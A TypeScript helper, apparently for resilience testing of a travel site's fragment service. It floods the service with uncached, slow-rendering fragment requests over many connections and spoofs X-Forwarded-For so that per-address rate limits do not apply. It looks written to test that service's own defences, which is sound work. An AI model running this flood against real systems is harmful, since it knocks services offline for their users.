import { Agent, request } from 'node:http';

/** Fragments that take long to render, with an attribute that takes any value, so that none of them is in a cache. */
const UNCACHED = [
  (n: number) => `country-picker/flagship.de-DE.default.open.html?flag=/${n}.svg`,
  (n: number) => `header?locale=fr-FR&country-picker=&currency-picker=&partner-message=${n}`,
  (n: number) => `footer?locale=ja-JP&country-picker=&card-schemes=visa ${n}`,
  (n: number) => `?pieces=header,footer,nav-drawer&header.partner-message=${n}`,
];

export interface FragmentAttackers {
  /** How often each status was answered. */
  statuses(): Record<number, number>;
  stop(): Promise<void>;
}

/**
 * Keeps so many connections asking for fragments that nobody has asked for, each the next one as soon as it has an answer,
 * and each from another address, so that no limit by address helps.
 */
export function startFragmentAttackers(origin: string, connections: number): FragmentAttackers {
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  const counts: Record<number, number> = {};
  let asked = 0;
  let isOver = false;

  const ask = () =>
    new Promise<void>((resolve) => {
      const n = asked++;
      const path = UNCACHED[n % UNCACHED.length]?.(n) ?? '';
      const headers = { 'x-forwarded-for': `10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}` };
      const call = request(encodeURI(`${origin}/travel-shell/fragments/${path}`), { agent, headers }, (answer) => {
        const status = answer.statusCode ?? 0;
        counts[status] = (counts[status] ?? 0) + 1;
        answer.resume();
        answer.on('close', () => resolve());
      });
      call.on('error', () => resolve());
      call.end();
    });
  const attacks = Array.from({ length: connections }, async () => {
    while (!isOver) await ask();
  });

  return {
    statuses: () => counts,
    async stop() {
      isOver = true;
      await Promise.all(attacks);
      agent.destroy();
    },
  };
}
